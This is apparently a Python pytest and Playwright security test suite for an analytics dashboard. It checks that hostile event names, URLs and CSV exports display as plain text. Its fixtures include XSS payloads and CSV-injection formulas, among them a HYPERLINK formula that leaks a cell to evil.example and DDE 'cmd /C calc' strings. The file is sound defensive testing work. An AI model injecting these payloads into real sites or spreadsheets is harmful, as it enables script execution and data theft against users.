"""Names of events come from anybody; on every way out they are text and nothing else."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Browser, Page, expect

from tests.conftest import Installation

# Each raises an alert where it is taken for HTML; the control below shows that it does.
HTML = (
    "<img src=x onerror=\"alert('img')\">",
    "\"'><svg><animate onbegin=\"alert('svg')\" attributeName=x dur=1s></svg>",
    "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>",
)
SCRIPTS = (
    "</script><script>alert('script')</script>",
    "javascript:alert('link')",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert('template')}",
    "'-alert('quote')-'",
)
FORMULAS = (
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Error\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
)  # fmt: skip
HOSTILE = (*HTML, *SCRIPTS, *FORMULAS)
# The names of events, and the values of their properties, in every kind of chart.
INSIGHTS: dict[str, dict[str, Any]] = {
    "trends": {"series": [{"event": HTML[0]}], "breakdown": {"property": "distinct_id"}},
    "funnel": {
        "steps": [{"event": HTML[0]}, {"event": None, "label": HTML[1]}],
        "breakdown": {"property": "distinct_id"},
    },
    "stickiness": {"series": [{"event": text} for text in HTML]},
    "breakdown": {"breakdown": {"property": "event_name", "limit": 50}},
}
_RUN_BY_SPREADSHEETS = tuple("=+-@\t\r\n＝＋－＠")  # OWASP: CSV injection


def an_event(text: str) -> dict[str, Any]:
    """One that is hostile wherever it can be."""
    return {
        "event": text,
        "distinct_id": text,
        "source": text[:50],
        "page_url": f"javascript:alert('page')//{text}",
        "referrer": f"javascript:alert('referrer')//{text}",
        "properties": {text: text, "nested": {text: [text]}, "$browser": text, "title": text},
    }


@pytest.fixture(scope="module")
def project(installation: Installation) -> dict[str, Any]:
    """A project with a hostile name that such events were stored in."""
    made = installation.new_project(HTML[0])
    answer = installation.ingest(made["public_key"], [an_event(text) for text in HOSTILE])
    assert answer.json()["accepted"] == len(HOSTILE), answer.text
    installation.wait_until_stored()
    return made


@contextmanager
def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what alerted in it."""
    page = browser.new_context(viewport={"width": 1440, "height": 1000}).new_page()
    alerts: list[str] = []

    def noted(dialog: Any) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", noted)
    yield page, alerts
    page.context.close()


def hover_charts(page: Page) -> None:
    """Have every chart show what it says of its parts."""
    for chart in page.get_by_role("img").all():
        chart.scroll_into_view_if_needed()
        box = chart.bounding_box()
        assert box
        for part in (0.1, 0.3, 0.5, 0.7, 0.9):
            page.mouse.move(box["x"] + box["width"] * part, box["y"] + box["height"] * part)
            page.wait_for_timeout(50)
    page.wait_for_timeout(500)


@pytest.mark.parametrize("text", HTML)
def test_the_control_a_careless_page_would_raise_an_alert(browser: Browser, text: str) -> None:
    with watched(browser) as (page, alerts):
        page.set_content("<div id=out></div>")
        page.evaluate("text => { document.getElementById('out').innerHTML = text }", text)
        page.wait_for_timeout(500)
        assert alerts


def test_the_dashboard_shows_hostile_texts_as_texts(
    browser: Browser, installation: Installation, project: dict[str, Any]
) -> None:
    with watched(browser) as (page, alerts):
        page.goto(f"{installation.url}/login")
        page.get_by_label("E-mail").fill(installation.credentials["email"])
        page.locator("input[type=password]").fill(installation.credentials["password"])
        page.get_by_role("button", name="Sign in").click()
        # The list of projects shows the name, and the project's page everything that it got.
        expect(page.get_by_text(HTML[0], exact=False).first).to_be_visible(timeout=20_000)
        page.goto(f"{installation.url}/p/{project['id']}")
        expect(page.get_by_role("region", name="What changed")).to_contain_text("compared")
        hover_charts(page)
        page.goto(f"{installation.url}/p/{project['id']}/live")
        feed = page.get_by_role("region", name="Events", exact=True)
        for text in HTML:
            shown = feed.get_by_role("button", name=text[:20]).first
            expect(shown).to_be_visible(timeout=20_000)
            shown.click()
        hover_charts(page)
        for kind, question in INSIGHTS.items():
            address = quote(json.dumps(question))
            page.goto(f"{installation.url}/p/{project['id']}/explore/{kind}?q={address}")
            expect(page.get_by_role("main").get_by_role("img").first).to_be_visible(timeout=20_000)
            hover_charts(page)
        assert alerts == []
        for selector in (
            "img[src=x]",
            "animate[onbegin]",
            "iframe[srcdoc]",
            "a[href^='javascript:' i]",
        ):
            assert page.locator(selector).count() == 0, selector


def test_pages_of_settings_and_logs_show_hostile_texts_as_texts(
    browser: Browser, installation: Installation, project: dict[str, Any]
) -> None:
    """Everything that one member can name, as another one sees it."""
    text, api = HTML[0], f"{installation.url}/api/v1"
    email = f"hostile-{project['id']}@example.org"
    member = installation.new_user(email, project_id=project["id"], role="admin")
    own = member.get(f"{api}/auth/me", timeout=10).json()["id"]
    mine = f"{api}/projects/{project['id']}"
    for method, url, body in (
        ("PATCH", f"{api}/users/{own}", {"name": text}),
        ("POST", f"{mine}/keys", {"kind": "public", "name": text}),
        ("POST", f"{mine}/sources/", {"name": text, "description": text}),
        ("PATCH", mine, {"name": text}),
    ):
        answer = member.request(method, url, json=body, timeout=10)
        assert answer.status_code < 300, answer.text
    with watched(browser) as (page, alerts):
        page.goto(f"{installation.url}/login")
        page.get_by_label("E-mail").fill(installation.credentials["email"])
        page.locator("input[type=password]").fill(installation.credentials["password"])
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/projects")
        settings = f"/p/{project['id']}/settings"
        shown = page.get_by_text(text[:15], exact=False).locator("visible=true").first
        for part in ("keys", "sources", "members", "audit-log"):
            page.goto(f"{installation.url}{settings}/{part}")
            expect(shown).to_be_visible(timeout=20_000)
        page.goto(f"{installation.url}/admin")
        # Accounts of other tests may fill the first page.
        page.get_by_role("textbox", name="Search accounts").fill(email)
        expect(shown).to_be_visible(timeout=20_000)
        for path in (settings, f"{settings}/danger", "/admin/audit-log", "/account"):
            page.goto(installation.url + path)
            page.wait_for_load_state("networkidle")
        assert alerts == []
        assert page.locator("img[src=x]").count() == 0


@pytest.mark.parametrize("path", ["/", "/projects/1", "/demo/snake/", "/api/v1/docs/"])
def test_even_if_a_page_were_careless_nothing_inline_would_run(
    browser: Browser, installation: Installation, path: str
) -> None:
    """The content security policy is the second lock."""
    with watched(browser) as (page, alerts):
        page.goto(installation.url + path)
        for text in (*HTML, *SCRIPTS):
            page.evaluate(
                "text => { const place = document.createElement('div');"
                " document.body.append(place); place.innerHTML = text;"
                " const script = document.createElement('script');"
                " script.textContent = \"alert('inline')\"; document.body.append(script); }",
                text,
            )
        page.wait_for_timeout(500)
        assert alerts == []


def test_a_hostile_address_of_a_page_is_not_run(
    browser: Browser, installation: Installation
) -> None:
    with watched(browser) as (page, alerts):
        for text in (*HTML, *SCRIPTS):
            for path in (
                f"/login?next={quote(text)}&sign_in={quote(text)}",
                f"/invitation#{text}",
                f"/{quote(text, safe='')}",
                f"/api/v1/docs/?url={quote(text)}",
            ):
                page.goto(installation.url + path)
        page.wait_for_timeout(300)
        assert alerts == []


def test_no_cell_of_a_csv_export_is_a_formula(
    installation: Installation, project: dict[str, Any]
) -> None:
    answer = requests.get(
        f"{installation.url}/api/v1/analytics/{project['id']}/exports/events",
        params={"period": "7d", "format": "csv"},
        headers={"X-API-Key": project["secret_key"]},
        timeout=30,
    )
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(_RUN_BY_SPREADSHEETS)] == []
    # What was sent is still there, behind one more apostrophe at most.
    names = {row["event_name"] for row in rows}
    assert len(names) == len(HOSTILE)
    assert all(text in names or f"'{text}" in names for text in HOSTILE)


def test_responses_that_repeat_input_are_never_html(
    installation: Installation, project: dict[str, Any]
) -> None:
    secret = {"X-API-Key": project["secret_key"]}
    analytics = f"/api/v1/analytics/{project['id']}"
    for text in (*HTML, *SCRIPTS):
        for path in (
            f"{analytics}/top-events?period={quote(text, safe='')}",
            f"{analytics}/persons/?search={quote(text, safe='')}",
            f"{analytics}/definitions/properties?search={quote(text, safe='')}",
            f"/api/v1/auth/oidc/callback?error={quote(text, safe='')}",
            f"/array/{quote(text, safe='')}/config",
            f"/api/v1/{quote(text, safe='')}",
        ):
            answer = requests.get(
                installation.url + path, headers=secret, timeout=10, allow_redirects=False
            )
            kind = answer.headers.get("Content-Type", "application/json")
            assert kind.startswith("application/json"), (path, kind)
            if answer.content:
                assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        script = requests.get(
            f"{installation.url}/array/{quote(text, safe='')}/config.js", timeout=10
        )
        assert "alert" not in script.text
